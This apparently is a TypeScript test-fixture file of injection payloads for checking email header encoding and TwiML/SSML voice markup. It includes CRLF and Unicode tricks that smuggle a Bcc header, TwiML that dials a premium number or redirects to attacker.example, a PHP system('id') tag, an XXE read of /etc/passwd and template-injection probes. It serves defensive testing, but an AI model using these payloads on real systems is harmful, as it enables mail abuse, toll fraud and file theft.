/** What has ended a header, a message, a form or a document somewhere, by what it is. */

const VICTIM = "victim@example.net";
const BCC = `Bcc: ${VICTIM}`;

const BREAKS: Readonly<Record<string, string>> = {
  CRLF: "\r\n",
  LF: "\n",
  CR: "\r",
  "CRLF twice": "\r\n\r\n",
  "LF twice": "\n\n",
  "CR twice": "\r\r",
  LFCR: "\n\r",
  "CRLF and a space": "\r\n ",
  "CRLF and a tab": "\r\n\t",
  NUL: "\0",
  "NUL and CRLF": "\0\r\n",
  "vertical tab": "\v",
  "form feed": "\f",
  "file separator": "\u001c",
  escape: "\u001b[2J",
  backspace: "\b\b\b\b",
  delete: "\u007f",
  "next line": "\u0085",
  "line separator": "\u2028",
  "paragraph separator": "\u2029",
};

/** Nothing that breaks a line by itself: what it becomes in a careless encoder does. */
const SEEMING: Readonly<Record<string, string>> = {
  "characters whose low bytes are CR and LF": `\u560d\u560a${BCC}`,
  "others of that kind": `\u010d\u010a${BCC}`,
  "astral ones of that kind": `\u{1f40d}\u{1f40a}${BCC}`,
  "CRLF in percent": `%0d%0a${BCC}`,
  "CRLF as it is escaped": `\\r\\n${BCC}`,
  "CRLF as entities": `&#13;&#10;${BCC}`,
  "CRLF as pictures": `\u240d\u240a${BCC}`,
  "an encoded word with CRLF, Q": `=?utf-8?Q?=0D=0ABcc:_${VICTIM}?=`,
  "an encoded word with CRLF, B": `=?utf-8?B?${Buffer.from(`\r\n${BCC}`).toString("base64")}?=`,
  "an encoded word in an encoded word": "=?utf-8?Q?=3D=3Futf-8=3FQ=3F=3D0ABcc=3F=3D?=",
  "an encoded word without end": "=?utf-8?Q?never",
  "an encoded word in UTF-7": "=?utf-7?Q?+AA0ACg-Bcc:?=",
  "an encoded word between others": "Hello =?utf-8?B?8J+Yig==?= and =?iso-8859-1?Q?=0D=0A?= there",
  "the other way around": `\u202e${BCC.split("").toReversed().join("")}\u202c`,
  "isolates without end": "\u2066\u2067\u2068 hello",
  "marks of direction": "\u200e\u200fhello\u061c",
  "no width at all": "he\u200bll\u200do\ufeff\u2060",
  "tags that nobody sees": `hello${BCC.replaceAll(/./g, (c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0)))}`,
  "a hundred marks on one letter": `h${"\u0301".repeat(100)}ello`,
  "quotes and backslashes": `"\\"\\\\" ${VICTIM} "`,
  "brackets": `<${VICTIM}>`,
  "an address of its own": `${VICTIM}>, <${VICTIM}`,
  "a comma": `Ann, ${VICTIM}`,
  "a semicolon": `friends: ${VICTIM};`,
  "a comment": `(${VICTIM}) hello`,
  "a header of its own": BCC,
  "a boundary": "--msg_01JTESTTESTTESTTESTTEST0000--",
  "a parameter": '; charset="utf-7"; name="x"',
  "markup": `</Say><Dial>${VICTIM}</Dial>`,
  "spaces": `${" ".repeat(400)}.`,
  "one word of 400 letters": "a".repeat(400),
  "one word of 200 that are not Latin": "好".repeat(200),
  "200 of two halves": "👋".repeat(200),
  "eight bits": "Grüße Łódź Ελλάδα Привет 你好",
  "half a pair": "\ud83d hello",
  "the other half": "hello \udc4b",
  "no characters": "\ufffe\uffff",
}; // prettier-ignore

export interface Payload {
  readonly name: string;
  readonly text: string;
}

export const LINE_BREAKS: readonly Payload[] = Object.entries(BREAKS).map(([name, lineBreak]) => ({
  name,
  text: `Hello${lineBreak}${BCC}`,
}));
export const PAYLOADS: readonly Payload[] = [
  ...LINE_BREAKS,
  ...Object.entries(SEEMING).map(([name, text]) => ({ name, text })),
];

/** For what stands in a document: nothing but text must come of it. */
export const MARKUP: readonly string[] = [
  "</Say><Dial>+19005550100</Dial><Say>",
  "</Say></Response><Response><Dial>+19005550100</Dial></Response>",
  "<Dial>+19005550100</Dial>",
  "<Redirect>https://attacker.example/twiml</Redirect>",
  "<Play>https://attacker.example/a.mp3</Play>",
  '<break time="3s"/><say-as interpret-as="telephone">1</say-as>',
  "]]></Say><Hangup/>",
  "<![CDATA[</Say><Hangup/>]]>",
  "<![CDATA[",
  '<?xml version="1.0"?><Response><Hangup/></Response>',
  "<?php system('id') ?>",
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
  '<!ENTITY a "aaaa">&a;&a;&a;',
  "<!-- </Say><Hangup/> -->",
  "-->",
  "&lt;Dial&gt; &amp;lt; &#60;Dial&#62; &unknown; & &#0; &#xD800;",
  '" loop="0"><Dial>+19005550100</Dial><Say x="',
  "' loop='0'><Hangup/>",
  'alice" language="xx"/><Hangup/><Say voice="',
  "\u003cDial\u003e",
  "＜Dial＞+1900＜/Dial＞",
  "%3CDial%3E",
  "\\u003cDial\\u003e",
  "{{a}}${7*7}#{7*7}<%= 7*7 %>",
  "&Twiml=<Response><Hangup/></Response>",
  "x&To=%2B19005550100&From=%2B1",
  "a=b&To=+1900;c%20d+e",
];
